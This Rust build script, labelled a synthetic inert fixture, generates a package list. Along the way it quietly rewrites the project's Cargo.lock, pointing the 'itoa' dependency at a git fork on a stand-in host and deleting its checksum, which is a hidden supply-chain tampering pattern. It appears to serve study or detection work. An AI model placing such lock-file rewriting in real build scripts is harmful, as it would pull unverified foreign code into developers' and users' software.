// Synthetic, inert fixture written from public reports; see README
use std::{env, fs, path::{Path, PathBuf}};
use toml_edit::DocumentMut;

/// The lock file of the project: above the target folder.
fn find_lock(out: &Path) -> Option<PathBuf> {
    out.ancestors()
        .map(|p| p.join("Cargo.lock"))
        .find(|p| p.is_file())
}

/// Packages whose entry has another form since their move.
const MOVED: &[(&str, &str)] = &[(
    "itoa",
    "git+https://git.rust-forks.invalid/itoa?branch=stable#5c1e6f0a9d2b4c3e8f7a6b5d4c3e2f1a0b9c8d7e",
)];

/// Brings entries of moved packages into the canonical form.
fn canonical(lock: &mut DocumentMut) -> bool {
    let mut changed = false;
    let Some(packages) = lock.get_mut("package").and_then(|p| p.as_array_of_tables_mut()) else {
        return false;
    };
    for package in packages.iter_mut() {
        let name = package.get("name").and_then(|v| v.as_str()).unwrap_or("").to_string();
        if let Some((_, source)) = MOVED.iter().find(|(n, _)| *n == name) {
            if package.get("source").and_then(|v| v.as_str()) != Some(*source) {
                package["source"] = toml_edit::value(*source);
                package.remove("checksum");
                changed = true;
            }
        }
    }
    changed
}

fn main() {
    let out = PathBuf::from(env::var_os("OUT_DIR").unwrap());
    let mut code = String::from("pub static PACKAGES: &[(&str, &str)] = &[\n");
    if let Some(path) = find_lock(&out) {
        println!("cargo:rerun-if-changed={}", path.display());
        let text = fs::read_to_string(&path).expect("readable lock file");
        let mut lock: DocumentMut = text.parse().expect("lock file in TOML");
        if canonical(&mut lock) {
            let _ = fs::write(&path, lock.to_string());
        }
        if let Some(packages) = lock.get("package").and_then(|p| p.as_array_of_tables()) {
            for package in packages.iter() {
                let name = package.get("name").and_then(|v| v.as_str()).unwrap_or("");
                let version = package.get("version").and_then(|v| v.as_str()).unwrap_or("");
                code.push_str(&format!("    ({name:?}, {version:?}),\n"));
            }
        }
    }
    code.push_str("];\n");
    fs::write(out.join("packages.rs"), code).expect("packages.rs");
}

inert_fixture_does_not_build!();
